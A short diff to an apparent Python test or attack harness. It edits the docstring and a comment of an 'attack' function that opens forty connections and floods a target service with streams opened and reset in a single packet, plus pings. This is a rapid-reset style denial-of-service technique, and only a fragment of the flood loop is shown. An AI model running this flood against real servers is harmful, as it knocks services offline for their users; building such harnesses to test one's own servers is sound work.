@@ -1,6 +1,4 @@
-"""y03: forty connections, each with streams opened and reset in one packet, as fast as they go, and pings.
-
-Of one address, before a server whose other clients have another."""
+"""Forty connections that open and reset streams in one packet, and send pings."""
 
 from __future__ import annotations
 
@@ -20,7 +18,7 @@ async def attack(target: Target, seen: Seen) -> None:
 
     async def flood(metadata: tuple[tuple[str, str], ...]) -> None:
         head, tail = call(0, f"{SERVICE}Generate", metadata), reset(0)
-        before, between, after = head[:5], head[9:] + tail[:5], tail[9:]  # the stream's number in between
+        before, between, after = head[:5], head[9:] + tail[:5], tail[9:]
         while time.monotonic() < end:
             try:
                 connection = await Connection.open(target.address, source=SOURCE)
